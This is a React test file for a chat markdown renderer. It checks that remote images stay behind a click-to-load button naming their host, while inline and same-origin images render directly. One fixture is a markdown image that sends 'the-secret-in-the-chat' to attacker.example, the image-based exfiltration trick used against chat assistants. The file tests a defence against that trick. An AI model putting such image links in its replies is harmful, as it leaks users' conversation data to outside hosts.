import { render, screen } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { describe, expect, it } from 'vitest';
import { MarkdownContent } from './markdown-content';

const PIXEL =
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=';

describe('images in a reply', () => {
  it('never loads a remote image by itself: it waits behind a button naming the host', async () => {
    const { container } = render(
      <MarkdownContent content="Here: ![chart](https://attacker.example/collect?q=the-secret-in-the-chat)" />,
    );
    expect(container.querySelector('img')).toBeNull();
    const button = screen.getByRole('button', { name: /Image: chart.*Load from attacker\.example/ });
    await userEvent.click(button);
    expect(container.querySelector('img')?.getAttribute('src')).toBe(
      'https://attacker.example/collect?q=the-secret-in-the-chat',
    );
  });

  it('shows inline data and same-origin images', () => {
    const { container } = render(
      <MarkdownContent
        content={`![dot](${PIXEL}) ![logo](${window.location.origin}/logo.png) ![rel](/a.png)`}
      />,
    );
    expect([...container.querySelectorAll('img')].map((img) => img.getAttribute('alt'))).toEqual([
      'dot',
      'logo',
      'rel',
    ]);
  });
});
